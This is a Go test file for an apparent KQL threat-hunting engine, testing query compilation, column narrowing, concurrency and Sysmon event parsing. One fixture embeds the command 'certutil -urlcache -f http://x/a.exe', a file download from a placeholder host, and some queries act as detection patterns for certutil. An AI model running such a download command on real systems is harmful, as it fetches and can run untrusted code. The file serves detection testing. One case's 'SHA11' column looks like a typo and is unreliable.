package kql_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"github.com/kqlhunt/kqlhunt/kql"
	"github.com/kqlhunt/kqlhunt/kql/syntax"
	"github.com/kqlhunt/kqlhunt/schema"
	"github.com/kqlhunt/kqlhunt/value"
)

func compile(t *testing.T, q string) *kql.Query {
	t.Helper()
	cq, err := kql.Compile("t.kql", q, kql.Options{Schemas: schema.Builtin()})
	if err != nil {
		t.Fatal(err)
	}
	return cq
}

func TestTablesNarrow(t *testing.T) {
	cases := []struct{ query, want string }{
		{`DeviceProcessEvents | where FileName == "a" | project DeviceName`,
			"DeviceProcessEvents[DeviceName FileName]"},
		{`DeviceProcessEvents | project-away FileName | project DeviceName`,
			"DeviceProcessEvents[DeviceName]"},
		{`DeviceProcessEvents | summarize count() by DeviceId`, "DeviceProcessEvents[DeviceId]"},
		{`DeviceProcessEvents | join (DeviceFileEvents | project DeviceId, SHA1) on DeviceId` +
			` | project FileName, SHA11`,
			"DeviceProcessEvents[DeviceId FileName] DeviceFileEvents[DeviceId SHA1]"},
		{`let x = DeviceProcessEvents | project A = FileName; x | where A has "a"`,
			"DeviceProcessEvents[FileName]"},
	}
	for _, c := range cases {
		var got string
		for _, u := range compile(t, c.query).Tables() {
			var names []string
			for _, col := range u.Columns {
				names = append(names, col.Name)
			}
			got += fmt.Sprintf("%s%v ", u.Name, names)
		}
		if got[:len(got)-1] != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.query, got, c.want)
		}
	}
	all := compile(t, `DeviceProcessEvents | take 1`).Tables()[0].Columns
	tab, _ := schema.Builtin().Lookup("DeviceProcessEvents")
	if len(all) != len(tab.Columns) {
		t.Errorf("no project: %d columns, want all %d", len(all), len(tab.Columns))
	}
}

func TestCompileErrors(t *testing.T) {
	_, err := kql.Compile("r.kql", "DeviceProcessEvents\n| where Nope == 1 and FileName > 3",
		kql.Options{Schemas: schema.Builtin()})
	var list syntax.ErrorList
	if !errors.As(err, &list) || len(list) != 2 {
		t.Fatalf("err = %v, want two positioned errors", err)
	}
	if list[0].Line != 2 || list[0].Col != 9 {
		t.Errorf("first error at %d:%d, want 2:9", list[0].Line, list[0].Col)
	}
}

// TestPushConcurrent pushes from several goroutines and checks every
// surviving row arrives once.
func TestPushConcurrent(t *testing.T) {
	q := compile(t, `DeviceProcessEvents | where ProcessId % 3 == 0 | summarize count()`)
	use := q.Tables()[0]
	run := q.Start(context.Background(), kql.RunOptions{Now: testNow})
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for b := 0; b < 50; b++ {
				rows := make([][]value.Value, 30)
				for i := range rows {
					rows[i] = []value.Value{value.NewLong(int64(g*10000 + b*30 + i))}
				}
				if err := run.Push(use.Name, rows); err != nil {
					t.Error(err)
				}
			}
		}()
	}
	wg.Wait()
	res, err := run.Finish()
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Rows[0][0].Long(); got != 4*50*30/3 {
		t.Errorf("count = %d, want %d", got, 4*50*30/3)
	}
	if _, err := run.Finish(); err == nil {
		t.Error("second Finish succeeded")
	}
}

func TestColumnsAndLookback(t *testing.T) {
	q := compile(t, `DeviceProcessEvents | where Timestamp > ago(7d) or TimeGenerated > ago(1h)`+
		` | extend L = strlen(FileName) | project L, FileName`)
	if got := fmt.Sprint(q.Columns()); got != "[{L long} {FileName string}]" {
		t.Errorf("Columns = %s", got)
	}
	if d, ok := q.MaxLookback(); !ok || d.Hours() != 7*24 {
		t.Errorf("MaxLookback = %v %v", d, ok)
	}
}

func TestWatchlistHook(t *testing.T) {
	fn := func(args []value.Value) ([]schema.Column, [][]value.Value, error) {
		cols := []schema.Column{{Name: "SearchKey", Type: value.String}}
		return cols, [][]value.Value{{value.NewString(args[0].Str() + "-host")}}, nil
	}
	q, err := kql.Compile("w.kql", `_GetWatchlist('vips') | project SearchKey`,
		kql.Options{Schemas: schema.Builtin(),
			Functions: map[string]kql.TableFunc{"_GetWatchlist": fn}})
	if err != nil {
		t.Fatal(err)
	}
	res, err := q.Start(context.Background(), kql.RunOptions{Now: testNow}).Finish()
	if err != nil || render(res) != "SearchKey:string\nvips-host" {
		t.Errorf("got %v %v", res, err)
	}
}

func TestExternalData(t *testing.T) {
	runCases(t, []queryCase{
		{"csv", `externaldata(Name:string, N:long)["testdata/users.csv"] | where N > 1`,
			"Name:string,N:long\nbob|2"},
		{"remote not fetched: empty", `externaldata(Name:string)["https://example.com/x.csv"]`,
			"Name:string"},
	})
}

func TestBagUnpackOpenSchema(t *testing.T) {
	const src = `datatable(k:long, d:dynamic)[` +
		`1, dynamic({"Image":"C:\\x\\certutil.exe","User":"a"}),` +
		` 2, dynamic({"Image":"b.exe"})] | evaluate bag_unpack(d)`
	runCases(t, []queryCase{
		{"last", src, "k:long,Image:string,User:string\n1|C:\\x\\certutil.exe|a\n2|b.exe|"},
		{"prefix", `print d = dynamic({"b":1,"a":"x"}) | evaluate bag_unpack(d, "p_")`,
			"p_a:string,p_b:long\nx|1"},
		{"then filter", src + ` | where Image has "certutil.exe"` +
			` | extend U = column_ifexists("User", "none"), V = column_ifexists("Nope", "none")` +
			` | project k, Image, U, V`,
			"k:long,Image:dynamic,U:string,V:string\n1|C:\\x\\certutil.exe|a|none"},
	})
}

// TestSysmonPivot runs the Sysmon-on-Event pattern of Sentinel rules:
// parse_xml, mv-expand, bag_unpack, pivot, then filters on the new columns.
func TestSysmonPivot(t *testing.T) {
	xml := `<DataItem><EventData><Data Name="Image">C:\\Windows\\certutil.exe</Data>` +
		`<Data Name="CommandLine">certutil -urlcache -f http://x/a.exe</Data></EventData></DataItem>`
	q := `datatable(Computer:string, EventID:int, EventData:string)["host1", 1, '` + xml + `']
| extend EventData = parse_xml(EventData).DataItem.EventData.Data
| mv-expand bagexpansion=array EventData
| evaluate bag_unpack(EventData)
| extend Key = tostring(['@Name']), Value = ['#text']
| evaluate pivot(Key, any(Value), Computer, EventID)
| where Image has "certutil.exe"
| project Computer, CommandLine`
	runCases(t, []queryCase{{"sysmon", q,
		"Computer:string,CommandLine:dynamic\nhost1|certutil -urlcache -f http://x/a.exe"}})
}

// TestExternalDataNotFetchedWarns: a remote URL binds to an empty table,
// as the analyzer accepts the query, and says so in a positioned warning.
func TestExternalDataNotFetchedWarns(t *testing.T) {
	src := "externaldata(Name:string)\n[\"https://example.com/x.csv\"]"
	q, err := kql.Compile("q.kql", src, kql.Options{Schemas: schema.Builtin()})
	if err != nil {
		t.Fatal(err)
	}
	w := q.Warnings()
	if len(w) != 1 || w[0].Line != 2 || w[0].Col != 2 ||
		!strings.Contains(w[0].Msg, "is not fetched") {
		t.Errorf("warnings = %v", w)
	}
}
